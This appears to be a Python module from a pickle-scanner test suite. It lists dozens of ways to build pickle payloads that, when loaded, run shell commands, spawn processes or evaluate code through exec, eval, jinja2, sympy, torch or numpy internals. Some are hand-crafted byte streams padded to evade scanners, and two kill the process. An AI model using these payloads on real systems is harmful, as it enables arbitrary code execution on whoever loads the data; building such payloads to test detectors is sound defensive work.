"""Payloads that run a program or evaluate code at once: processes, interpreters, code generators."""

from __future__ import annotations

import marshal

from attacks.expressions import State, do, name
from attacks.mechanism import Mechanism, Target

_P, _E = "starts a process", "evaluates code"


def _code_object(target: Target) -> object:
    return do("marshal.loads", marshal.dumps(compile(target.source, "x", "eval")))


def _function(target: Target) -> object:
    return do(do("types.FunctionType", _code_object(target), {"__builtins__": name("builtins.__dict__")}))


def _by_cloudpickle(target: Target) -> bytes:
    import cloudpickle

    return cloudpickle.dumps(_Reduces(_closure(target.source)), protocol=4)


def _by_dill(target: Target) -> bytes:
    import dill

    return dill.dumps(_Reduces(_closure(target.source)), protocol=4, recurse=True, byref=False)


def _closure(source: str):
    """A function that a pickler has to write down by value, because no module has it."""
    space: dict = {"__builtins__": __builtins__, "__name__": "__main__"}
    exec(f"def act():\n    return {source}", space)  # defines, does not call
    return space["act"]


def _annotated(target: Target) -> object:
    return State(do("types.SimpleNamespace"), {"__annotations__": {"a": target.source}})


class _Reduces:
    def __init__(self, function) -> None:
        self.function = function

    def __reduce__(self):
        return self.function, ()


def _code_constructor(target: Target) -> object:
    code = compile(target.source, "x", "eval")
    parts = [
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
    ]
    return do(do("types.FunctionType", do("types.CodeType", *parts), {"__builtins__": name("builtins.__dict__")}))


MECHANISMS = (
    # Processes
    Mechanism(title="a shell", family=_P, build=lambda t: do("os.system", t.command)),
    Mechanism(title="a shell of the C module", family=_P, build=lambda t: do("posix.system", t.command)),
    Mechanism(
        title="a process that is waited for",
        family=_P,
        build=lambda t: do("subprocess.check_call", ["mkdir", t.marker]),
    ),
    Mechanism(title="a process that is let go", family=_P, build=lambda t: do("subprocess.Popen", ["mkdir", t.marker])),
    Mechanism(title="a process whose output is read", family=_P, build=lambda t: do("subprocess.getoutput", t.command)),
    Mechanism(title="a pipe", family=_P, build=lambda t: do("os.popen", t.command)),
    Mechanism(title="a spawn", family=_P, build=lambda t: do("os.spawnv", 0, "/bin/mkdir", ["mkdir", t.marker])),
    Mechanism(
        title="a POSIX spawn", family=_P, build=lambda t: do("posix.posix_spawn", "/bin/mkdir", ["mkdir", t.marker], {})
    ),
    Mechanism(
        title="the process is replaced", family=_P, build=lambda t: do("os.execv", "/bin/mkdir", ["mkdir", t.marker])
    ),
    Mechanism(title="a terminal", family=_P, build=lambda t: do("pty.spawn", ["mkdir", t.marker])),
    Mechanism(
        title="a process of asyncio",
        family=_P,
        build=lambda t: do("asyncio.run", do("asyncio.create_subprocess_exec", "mkdir", t.marker)),
    ),
    Mechanism(
        title="a pool of threads",
        family=_P,
        build=lambda t: do(
            name("concurrent.futures:ThreadPoolExecutor.submit"),
            do("concurrent.futures.ThreadPoolExecutor"),
            name("os.mkdir"),
            t.marker,
        ),
        styles=("4", "5", "GLOBAL"),
    ),
    Mechanism(
        title="a thread", family=_P, build=lambda t: do("_thread.start_new_thread", name("os.mkdir"), (t.marker,))
    ),
    Mechanism(
        title="a browser",
        family=_P,
        build=lambda t: do(
            name("webbrowser:GenericBrowser.open"), do("webbrowser.GenericBrowser", ["mkdir", "%s"]), t.marker
        ),
    ),
    Mechanism(title="a pager", family=_P, build=lambda t: do("pydoc.pipepager", "x", t.command)),
    Mechanism(
        title="a native library",
        family=_P,
        build=lambda t: do(do("operator.getitem", do("ctypes.CDLL", None), "mkdir"), t.marker.encode(), 0o777),
    ),
    Mechanism(
        title="a diagnosis tool",
        family=_P,
        build=lambda t: do("torch.utils.collect_env.run", t.command),
        needs=("torch",),
    ),
    Mechanism(title="the process is stopped", family=_P, build=lambda t: do("os.abort"), proof="dies"),
    Mechanism(
        title="the process is killed", family=_P, build=lambda t: do("os.kill", do("os.getpid"), 9), proof="dies"
    ),
    # Interpreters
    Mechanism(title="exec", family=_E, build=lambda t: do("builtins.exec", t.source)),
    Mechanism(title="eval", family=_E, build=lambda t: do("builtins.eval", t.source)),
    Mechanism(
        title="exec of Python 2's module",
        family=_E,
        build=lambda t: do("__builtin__.eval", t.source),
        styles=("0", "1", "2", "INST"),
    ),
    Mechanism(
        title="compile, then exec",
        family=_E,
        build=lambda t: do("builtins.exec", do("builtins.compile", t.source, "x", "exec")),
    ),
    Mechanism(
        title="an interactive interpreter",
        family=_E,
        build=lambda t: do(name("code:InteractiveInterpreter.runsource"), do("code.InteractiveInterpreter"), t.source),
    ),
    Mechanism(
        title="a timer",
        family=_E,
        build=lambda t: do("timeit.timeit", t.source, "pass", name("timeit.default_timer"), 1),
    ),
    Mechanism(title="a profiler in C", family=_E, build=lambda t: do("cProfile.run", t.source)),
    Mechanism(title="a profiler in Python", family=_E, build=lambda t: do("profile.run", t.source)),
    Mechanism(title="a debugger", family=_E, build=lambda t: do(name("bdb:Bdb.run"), do("bdb.Bdb"), t.source)),
    Mechanism(title="a tracer", family=_E, build=lambda t: do(name("trace:Trace.run"), do("trace.Trace"), t.source)),
    Mechanism(
        title="the runner of modules",
        family=_E,
        build=lambda t: do("runpy._run_code", do("builtins.compile", t.source, "x", "exec"), {}),
    ),
    Mechanism(title="a marshalled code object", family=_E, build=_function),
    Mechanism(title="a code object from its parts", family=_E, build=_code_constructor),
    Mechanism(title="a function by value, cloudpickle", family=_E, build=_by_cloudpickle, needs=("cloudpickle",)),
    Mechanism(title="a function by value, dill", family=_E, build=_by_dill, needs=("dill",), loader="dill"),
    Mechanism(
        title="an annotation that is evaluated",
        family=_E,
        build=lambda t: do("typing.get_type_hints", _annotated(t)),
    ),
    Mechanism(
        title="a generator of data classes",
        family=_E,
        build=lambda t: do("dataclasses._create_fn", "f", [f"x={t.source}"], ["return x"]),
        before=(3, 13),
    ),
    Mechanism(
        title="a template",
        family=_E,
        build=lambda t: do(
            name("jinja2:Template.render"),
            do("jinja2.Template", f"{{{{ cycler.__init__.__globals__.os.mkdir({t.marker!r}) }}}}"),
        ),
        needs=("jinja2",),
    ),
    Mechanism(
        title="a symbolic expression", family=_E, build=lambda t: do("sympy.sympify", t.source), needs=("sympy",)
    ),
    Mechanism(
        title="a module of a graph",
        family=_E,
        build=lambda t: do("torch.fx.graph_module._forward_from_src", f"x = {t.source}\ndef forward(self): pass", {}),
        needs=("torch",),
    ),
    Mechanism(
        title="a wrapper around exec, of torch",
        family=_E,
        build=lambda t: do("torch.jit.unsupported_tensor_ops.execWrapper", t.source, {}, {}),
        needs=("torch",),
    ),
    Mechanism(
        title="a test helper of numpy",
        family=_E,
        build=lambda t: do("numpy.testing._private.utils.runstring", t.source, {}),
        needs=("numpy",),
    ),
    Mechanism(
        title="a parser of Fortran",
        family=_E,
        build=lambda t: do("numpy.f2py.crackfortran.myeval", t.source, {}, {}),
        needs=("numpy",),
    ),
    Mechanism(
        title="a run of no-ops before it",
        family=_E,
        build=lambda t: b"\x80\x04" + b"N0" * 50_000 + b"cbuiltins\nexec\n(V" + t.source.encode() + b"\ntR.",
    ),
    Mechanism(
        title="numbers in other bases before it",
        family=_E,
        build=lambda t: b"I0x10\n0I0b1\n0L0o7L\n0cbuiltins\nexec\n(V" + t.source.encode() + b"\ntR.",
    ),
    Mechanism(
        title="a number in the old octal notation before it",
        family=_E,
        build=lambda t: b"I010\n0cbuiltins\nexec\n(V" + t.source.encode() + b"\ntR.",
    ),
    Mechanism(
        title="frames and protocols again and again",
        family=_E,
        build=lambda t: (
            (b"\x80\x04" + b"\x95" + bytes(8)) * 100 + b"cbuiltins\nexec\n(V" + t.source.encode() + b"\ntR."
        ),
    ),
    Mechanism(
        title="opcodes of protocol 5 in protocol 0",
        family=_E,
        build=lambda t: b"\x96" + bytes(8) + b"0cbuiltins\nexec\n(V" + t.source.encode() + b"\ntR.",
    ),
)
